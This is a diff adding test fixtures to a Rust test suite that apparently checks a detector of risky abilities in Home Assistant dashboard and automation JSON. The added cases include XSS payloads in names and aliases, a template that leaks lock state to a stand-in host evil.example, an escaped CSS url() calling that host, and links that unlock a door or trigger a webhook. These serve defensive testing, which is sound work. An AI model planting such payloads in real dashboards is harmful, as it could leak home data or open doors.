@@ -20,6 +20,7 @@ fn r38_what_only_shows_can_do_nothing() {
         r#"{"type":"entities","title":"Kitchen","entities":["light.a",{"entity":"sensor.b","name":"Warm"}]}"#,
         r#"{"type":"button","entity":"light.a","tap_action":{"action":"toggle"},"hold_action":{"action":"more-info"}}"#,
         r#"{"type":"markdown","content":"It is {{ states('sensor.x') | round(1) }} degrees"}"#,
+        r#"{"type":"markdown","content":"<b>Warm</b><br><ha-icon icon=\"mdi:home\"></ha-icon>"}"#,
         r#"{"type":"picture","image":"/local/house.png","icon":"mdi:home"}"#,
         r#"{"type":"conditional","conditions":[{"entity":"light.a","state":"on"}],"card":{"type":"tile","entity":"light.a"}}"#,
     ] {
@@ -65,6 +66,38 @@ fn r37_every_channel_out_of_a_browser_is_named() {
             RunsCode,
             "template".to_owned(),
         ),
+        // Past the words for a frame that shows a page of the home's own.
+        (r#"{"type":"iframe","url":"data:image/svg+xml;base64,AAAA"}"#, ShowsPage, hosts::ANY.to_owned()),
+        (
+            r#"{"type":"button","tap_action":{"action":"url","url_path":"tel:+49900"}}"#,
+            AbilityKind::ActsInBrowser,
+            "tel:".to_owned(),
+        ),
+        (
+            r#"{"type":"entities","entities":[{"type":"weblink","url":"homeassistant://call_service/lock.unlock"}]}"#,
+            AbilityKind::ActsInBrowser,
+            "homeassistant:".to_owned(),
+        ),
+        (
+            r#"{"type":"markdown","content":"www.{{ states('lock.door') }}.evil.example"}"#,
+            RunsCode,
+            "template".to_owned(),
+        ),
+        (
+            r#"{"type":"history-graph","entities":[{"entity":"sensor.x","name":"<img src=x onerror='alert(1)'>"}]}"#,
+            RunsCode,
+            "HTML".to_owned(),
+        ),
+        (
+            r#"{"type":"picture","image":"/api/webhook/open-the-door"}"#,
+            AbilityKind::ActsInBrowser,
+            "webhook".to_owned(),
+        ),
+        (
+            r#"{"type":"history-graph","entities":[{"entity":"sensor.x","name":"<img title='"}]}"#,
+            RunsCode,
+            "HTML".to_owned(),
+        ),
         (
             r#"{"type":"picture-elements","elements":[{"style":{"background":"u\\72l(x)"}}]}"#,
             RunsCode,
@@ -82,6 +115,13 @@ fn r37_every_channel_out_of_a_browser_is_named() {
         r#"{"background":"center / cover url('https://evil.example/b.png')","views":[]}"#,
     );
     assert!(background.contains(&(CallsHost, evil())));
+    let hidden = seen(
+        DocumentKind::Dashboard,
+        r#"{"background":"center / cover u\\72l(\\2f\\2f evil.example/b.png)","views":[]}"#,
+    );
+    assert!(hidden.contains(&(CallsHost, evil())), "{hidden:?}");
+    let alias = seen(DocumentKind::Automation, r#"{"alias":"<img src=x onerror=alert(1)>","actions":[]}"#);
+    assert_eq!(alias, [(RunsCode, "HTML".to_owned())]);
 }
 
 #[test]
